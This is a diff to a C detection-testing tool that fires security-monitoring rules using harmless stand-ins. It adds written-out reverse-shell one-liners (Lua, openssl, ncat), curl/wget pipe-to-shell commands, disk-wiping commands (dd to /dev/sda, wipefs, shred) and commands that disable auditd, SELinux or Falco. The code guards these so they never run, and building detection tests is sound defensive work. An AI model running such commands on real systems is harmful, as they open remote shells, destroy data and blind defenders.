@@ -612,25 +612,35 @@ static int n_mkfifo_reverse_shell(void) { return sh("true || mkfifo " TMPDIR "/f
 static int a_telnet_pipe(void) { return sh("true || telnet 127.0.0.1 4444 | /bin/sh | telnet 127.0.0.1 4445"); }
 static int n_telnet_pipe(void) { return sh("true || telnet 127.0.0.1 25"); }
 
-/* sh -c 'curl ARGS | consumer' with a no-op curl */
-static int curl_pipe(const char *args_and_consumer)
+/* SHELL -c CMD where CMD names a no-op downloader: fmt has one %s for its
+ * path (the shell keeps SAKER_EVENTGEN_NOOP from its environment) */
+static int fake_downloader(const char *shell, const char *tool, const char *fmt)
 {
-	char cmd[256];
+	char path[64], cmd[256];
+	char *argv[] = { (char *)shell, (char *)"-c", cmd, NULL };
 	int rc;
 
 	mkdir(FAKEDIR, 0700);
-	unlink(FAKEDIR "/curl");
-	if (symlink(self_exe, FAKEDIR "/curl"))
+	snprintf(path, sizeof(path), FAKEDIR "/%s", tool);
+	unlink(path);
+	if (symlink(self_exe, path))
 		return -1;
-	snprintf(cmd, sizeof(cmd), NOOP_ENV "=1 " FAKEDIR "/curl %s", args_and_consumer);
-	rc = sh(cmd);
-	unlink(FAKEDIR "/curl");
+	snprintf(cmd, sizeof(cmd), fmt, path);
+	rc = spawn_env(NULL, argv, -1, env_plus(NOOP_ENV "=1"));
+	unlink(path);
 	rmdir(FAKEDIR);
 	return rc;
 }
 
-static int a_curl_pipe_sh(void) { return curl_pipe("-fsSL http://127.0.0.1:9/install.sh | sh"); }
-static int n_curl_pipe_sh(void) { return curl_pipe("-fsSL -o /dev/null http://127.0.0.1:9/x | cat"); }
+static int a_curl_pipe_sh(void) { return fake_downloader("/bin/sh", "curl", "%s -fsSL http://127.0.0.1:9/install.sh | sh"); }
+static int n_curl_pipe_sh(void) { return fake_downloader("/bin/sh", "curl", "%s -fsSL -o /dev/null http://127.0.0.1:9/x | cat"); }
+static int a_wget_pipe_bash(void) { return fake_downloader("/bin/sh", "wget", "%s -qO- http://127.0.0.1:9/x.sh | bash"); }
+static int n_wget_pipe_bash(void) { return fake_downloader("/bin/sh", "wget", "%s -qO- http://127.0.0.1:9/x.sh | cat"); }
+/* python3 reads an empty program from the pipe */
+static int a_curl_pipe_python(void) { return fake_downloader("/bin/sh", "curl", "%s -fsSL http://127.0.0.1:9/x.py | python3 -"); }
+static int n_curl_pipe_python(void) { return fake_downloader("/bin/sh", "curl", "%s -fsSL http://127.0.0.1:9/x.py | python3 -c pass"); }
+static int a_bash_process_subst(void) { return fake_downloader("/bin/bash", "curl", "bash <(%s -fsSL http://127.0.0.1:9/x.sh)"); }
+static int n_bash_process_subst(void) { return fake_downloader("/bin/bash", "curl", "cat <(%s -fsSL http://127.0.0.1:9/x.sh)"); }
 
 /* ------------------------------------------------------------- impact and miners */
 
@@ -1249,6 +1259,73 @@ static int n_packet_socket_as_dhclient(void)
 	return quiet_wait(pid);
 }
 
+/* ------------------------------------------------------------- more forms (session 5) */
+
+static int a_lua_reverse_shell(void)
+{
+	return FAKE("lua", "-e", "local s=require('socket');local t=assert(s.tcp());t:connect('127.0.0.1',4444);"
+		    "while true do local r=t:receive();local f=assert(io.popen(r,'r'));t:send(f:read('*a'));f:close() end");
+}
+static int n_lua_reverse_shell(void) { return FAKE("lua", "-e", "print('hello')"); }
+static int a_openssl_pipe(void)
+{
+	return sh("true || openssl s_client -quiet -connect 127.0.0.1:4444 | /bin/sh 2>&1 | openssl s_client -quiet -connect 127.0.0.1:4445");
+}
+static int n_openssl_pipe(void) { return sh("true || openssl s_client -connect 127.0.0.1:443 </dev/null"); }
+static int a_ncat_sh_exec(void) { return FAKE("ncat", "--sh-exec", "/bin/sh", "127.0.0.1", "4444"); }
+static int n_ncat_sh_exec(void) { return FAKE("ncat", "-l", "127.0.0.1", "4444"); }
+static int a_dd_device(void) { return FAKE("dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"); }
+static int n_dd_device(void) { return FAKE("dd", "if=/dev/zero", "of=/dev/null", "count=1"); }
+static int a_shred(void) { return FAKE("shred", "-uz", TMPDIR "/secret.db"); }
+static int n_shred(void) { return FAKE("rm", "-f", TMPDIR "/secret.db"); }
+static int a_wipefs(void) { return FAKE("wipefs", "-a", "/dev/sdb"); }
+static int n_wipefs(void) { return FAKE("wipefs", "/dev/sdb"); }
+static int a_auditctl_off(void) { return FAKE("auditctl", "-e", "0"); }
+static int n_auditctl_off(void) { return FAKE("auditctl", "-l"); }
+static int a_setenforce(void) { return FAKE("setenforce", "0"); }
+static int n_setenforce(void) { return fake_as(NULL, "getenforce", NULL); }
+static int a_pkill_sensor(void) { return FAKE("pkill", "-9", "falco"); }
+static int n_pkill_sensor(void) { return FAKE("pkill", "-HUP", "nginx"); }
+static int a_crontab_cmd(void) { return FAKE("crontab", TMPDIR "/jobs"); }
+static int n_crontab_cmd(void) { return FAKE("crontab", "-l"); }
+static int a_rc_local(void) { return touch_for_write("/etc/rc.local"); }
+static int n_rc_local(void) { return open_dir("/etc"); }
+static int a_shadow_direct(void) { return touch_for_write("/etc/shadow"); }
+static int n_shadow_direct(void) { return read_path("/etc/group"); }
+static int a_sudoers_main(void) { return touch_for_write("/etc/sudoers"); }
+static int a_kubeconfig(void) { return with_file(TMPDIR "/.kube/config", true); }
+static int n_kubeconfig(void) { return with_file(TMPDIR "/.kube/cache.json", true); }
+static int a_history_truncate(void)
+{
+	tmpdir();
+	write_file(TMPDIR "/.bash_history", O_APPEND, 0600);
+	write_file(TMPDIR "/.bash_history", O_TRUNC, 0644); /* not a shell rewriting it */
+	return unlink(TMPDIR "/.bash_history");
+}
+static int a_setgid_bit(void) { return chmod_temp(02755); }
+static int a_unshare_cmd(void)
+{
+	char *argv[] = { (char *)"/usr/bin/unshare", (char *)"-Ur", (char *)"/bin/true", NULL };
+
+	return spawn(NULL, argv, -1);
+}
+static int n_unshare_cmd(void)
+{
+	char *argv[] = { (char *)"/usr/bin/unshare", (char *)"-u", (char *)"/bin/true", NULL };
+
+	return spawn(NULL, argv, -1);
+}
+static int a_process_vm_writev(void)
+{
+	pid_t kid = sleeper();
+	char buf[1];
+	struct iovec l = { buf, 0 }, r = { (void *)&self_exe, 0 }; /* nothing is written */
+	long rc = syscall(SYS_process_vm_writev, kid, &l, 1, &r, 1, 0);
+
+	reap(kid);
+	return rc < 0 ? -1 : 0;
+}
+
 static const struct action actions[] = {
 	/* execution */
 	{ "reverse_shell", "T1059.004", ANY, "Reverse shell", a_reverse_shell, n_reverse_shell, "a shell makes a loopback TCP socket its stdin/stdout" },
@@ -1263,6 +1340,12 @@ static const struct action actions[] = {
 	{ "mkfifo_reverse_shell", "T1059.004", ANY, "Reverse shell command line", a_mkfifo_reverse_shell, n_mkfifo_reverse_shell, "sh -c 'true || (mkfifo f; cat f | sh -i | nc ...)' (the pipeline never runs)" },
 	{ "telnet_pipe", "T1059.004", ANY, "Reverse shell command line", a_telnet_pipe, n_telnet_pipe, "sh -c 'true || telnet ... | /bin/sh | telnet ...' (never runs)" },
 	{ "curl_pipe_sh", "T1059.004", ANY, "Run downloaded script through interpreter", a_curl_pipe_sh, n_curl_pipe_sh, "sh -c 'curl -fsSL URL | sh' with a no-op curl" },
+	{ "lua_reverse_shell", "T1059.004", ANY, "Reverse shell command line", a_lua_reverse_shell, n_lua_reverse_shell, "a no-op named lua with a socket+popen one-liner" },
+	{ "openssl_pipe", "T1059.004", ANY, "Reverse shell command line", a_openssl_pipe, n_openssl_pipe, "sh -c 'true || openssl s_client ... | /bin/sh | openssl s_client ...' (never runs)" },
+	{ "ncat_sh_exec", "T1059.004", ANY, "Netcat remote code execution", a_ncat_sh_exec, n_ncat_sh_exec, "a no-op named ncat with --sh-exec /bin/sh" },
+	{ "wget_pipe_bash", "T1059.004", ANY, "Run downloaded script through interpreter", a_wget_pipe_bash, n_wget_pipe_bash, "sh -c 'wget -qO- URL | bash' with a no-op wget" },
+	{ "curl_pipe_python", "T1059.006", ANY, "Run downloaded script through interpreter", a_curl_pipe_python, n_curl_pipe_python, "sh -c 'curl URL | python3 -' with a no-op curl (python3 reads an empty program)" },
+	{ "bash_process_subst", "T1059.004", ANY, "Run downloaded script through interpreter", a_bash_process_subst, n_bash_process_subst, "bash -c 'bash <(curl URL)' with a no-op curl" },
 	{ "memfd_exec", "T1620", ANY, "Fileless execution via memfd_create", a_memfd_exec, n_plain_exec, "copies itself into a memfd and runs it (a no-op) with fexecve" },
 	{ "devshm_exec", "T1059", ANY, "Execution from /dev/shm", a_devshm_exec, n_devshm_exec, "copies itself to /dev/shm, runs it as a no-op, removes it" },
 	{ "tmp_exec", "T1204.002", ANY, "Execution from temporary directory", a_tmp_exec, n_plain_exec, "copies itself to /tmp/saker-eventgen, runs it as a no-op, removes it" },
@@ -1274,10 +1357,17 @@ static const struct action actions[] = {
 	{ "stratum_cmdline", "T1496", ANY, "Detect crypto miners using the Stratum protocol", a_stratum, n_stratum, "a no-op with a stratum+tcp URL argument" },
 	{ "miner_pool_port", "T1496", ANY, "Detect outbound connections to common miner pool ports", a_miner_port, n_miner_port, "TCP connect to 192.0.2.1:3333 inside a private network namespace" },
 	{ "wipe", "T1485", ANY, "Destructive wipe command", a_wipe, n_wipe, "a no-op named rm with -rf --no-preserve-root /" },
+	{ "dd_device", "T1561.001", ANY, "Destructive wipe command", a_dd_device, n_dd_device, "a no-op named dd with of=/dev/sda" },
+	{ "shred", "T1485", ANY, "Destructive wipe command", a_shred, n_shred, "a no-op named shred with -uz FILE" },
+	{ "wipefs", "T1561.002", ANY, "Destructive wipe command", a_wipefs, n_wipefs, "a no-op named wipefs with -a /dev/sdb" },
 	{ "fork_bomb", "T1499", ANY, "Fork bomb", a_fork_bomb, n_fork_bomb, "a no-op named bash with -c ':(){ :|:& };:'" },
 	{ "ransom_rename", "T1486", ANY, "Files renamed with ransomware extension", a_ransom_rename, n_ransom_rename, "renames a temporary file to .locked, removes it" },
 	/* defense evasion */
 	{ "disable_security", "T1562.001", ANY, "Disable security tools", a_disable_security, n_disable_security, "a no-op named systemctl with stop auditd" },
+	{ "auditctl_off", "T1562.012", ANY, "Disable security tools", a_auditctl_off, n_auditctl_off, "a no-op named auditctl with -e 0" },
+	{ "setenforce_off", "T1562.001", ANY, "Disable security tools", a_setenforce, n_setenforce, "a no-op named setenforce with 0" },
+	{ "pkill_sensor", "T1562.001", ANY, "Disable security tools", a_pkill_sensor, n_pkill_sensor, "a no-op named pkill with -9 falco" },
+	{ "history_truncate", "T1070.003", ANY, "Delete or rename shell history", a_history_truncate, n_history, "truncates a temporary .bash_history (mode 0644, not a shell)" },
 	{ "kernel_hardening", "T1562.001", HOST, "Weaken kernel security setting", a_kernel_hardening, n_kernel_hardening, "opens /proc/sys/kernel/randomize_va_space for writing, writes nothing" },
 	{ "timestomp", "T1070.006", ANY, "Timestomp file times", a_timestomp, n_timestomp, "touch -d '2001-01-01' on a temporary file" },
 	{ "clear_log", "T1070.002", ANY, "Clear log activities", a_clear_log, n_clear_log, "truncates and removes /var/log/saker-eventgen.log" },
@@ -1289,6 +1379,10 @@ static const struct action actions[] = {
 	{ "ptrace_traceme", "T1622", ANY, "PTRACE anti-debug attempt", a_ptrace_traceme, n_ptrace, "a child calls ptrace(PTRACE_TRACEME)" },
 	/* persistence */
 	{ "cron", "T1053.003", ANY, "Schedule cron jobs", a_cron, n_cron, "writes and removes a crontab in /var/spool/cron/crontabs" },
+	{ "crontab_cmd", "T1053.003", ANY, "Schedule cron jobs", a_crontab_cmd, n_crontab_cmd, "a no-op named crontab with a file argument" },
+	{ "rc_local", "T1037.004", ANY, "Modify init scripts", a_rc_local, n_rc_local, "opens /etc/rc.local for appending (created and removed if absent), writes nothing" },
+	{ "shadow_direct", "T1098", ANY, "Modify user database directly", a_shadow_direct, n_shadow_direct, "opens /etc/shadow for appending, writes nothing" },
+	{ "sudoers_main", "T1548.003", ANY, "Modify sudoers configuration", a_sudoers_main, n_sudoers_dropin, "opens /etc/sudoers for appending, writes nothing" },
 	{ "at_job", "T1053.002", ANY, "Schedule at job", a_at_job, n_at_job, "a no-op named at with 'now + 1 minute'" },
 	{ "at_spool", "T1053.002", ANY, "Schedule at job file", a_at_spool, n_at_spool, "writes and removes a file in /var/spool/cron/atjobs" },
 	{ "systemd_unit", "T1543.002", ANY, "Create or modify systemd unit", a_systemd_unit, n_systemd_unit, "writes and removes /etc/systemd/system/saker-eventgen.tmp" },
@@ -1312,6 +1406,9 @@ static const struct action actions[] = {
 	{ "mkdir_bin", "T1222", ANY, "Modify binary dirs", a_mkdir_bin, n_mkdir_bin, "creates and removes a directory in /usr/local/bin" },
 	/* privilege escalation */
 	{ "setuid_bit", "T1548.001", ANY, "Set setuid or setgid bit", a_setuid_bit, n_setuid_bit, "sets the setuid bit on a temporary file" },
+	{ "setgid_bit", "T1548.001", ANY, "Set setuid or setgid bit", a_setgid_bit, n_setuid_bit, "sets the setgid bit on a temporary file" },
+	{ "unshare_cmd", "T1068", HOST, "Unexpected user namespace created", a_unshare_cmd, n_unshare_cmd, "unshare -Ur /bin/true" },
+	{ "process_vm_writev", "T1055.009", ANY, "Write to process memory", a_process_vm_writev, n_ptrace, "process_vm_writev of zero bytes into its sleeping child" },
 	{ "setcap", "T1548", ANY, "Set file capabilities", a_setcap, n_setcap, "a no-op named setcap with cap_setuid+ep" },
 	{ "non_sudo_setuid", "T1548", ANY, "Non sudo setuid", a_non_sudo_setuid, n_non_sudo_setuid, "a child becomes nobody and calls setuid" },
 	{ "setns", "T1611", ANY, "Change namespace privileges via unexpected setns", a_setns, n_setns, "a child calls setns on its own uts namespace" },
@@ -1334,6 +1431,7 @@ static const struct action actions[] = {
 	{ "read_ssh", "T1552.004", ANY, "Read ssh information by non-ssh program", a_read_ssh, n_read_ssh, "reads a file in a temporary .ssh directory" },
 	{ "read_private_key", "T1552.004", ANY, "Read ssh information by non-ssh program", a_read_private_key, n_read_private_key, "reads a temporary file named id_ed25519" },
 	{ "cloud_credentials", "T1552.001", ANY, "Read cloud or cluster credentials", a_cloud_creds, n_cloud_creds, "reads a temporary .aws/credentials" },
+	{ "kubeconfig", "T1552.001", ANY, "Read cloud or cluster credentials", a_kubeconfig, n_kubeconfig, "reads a temporary .kube/config" },
 	{ "service_account_token", "T1528", ANY, "Read service account token", a_sa_token, n_sa_token, "reads a token it writes under /run/secrets/kubernetes.io/serviceaccount" },
 	{ "proc_environ", "T1552", ANY, "Read environment of other process", a_proc_environ, n_proc_environ, "reads its child's /proc/PID/environ" },
 	{ "symlink_sensitive", "T1003.008", ANY, "Create symlink over sensitive files", a_symlink_sensitive, n_symlink_sensitive, "links /etc/shadow from a temporary symlink" },
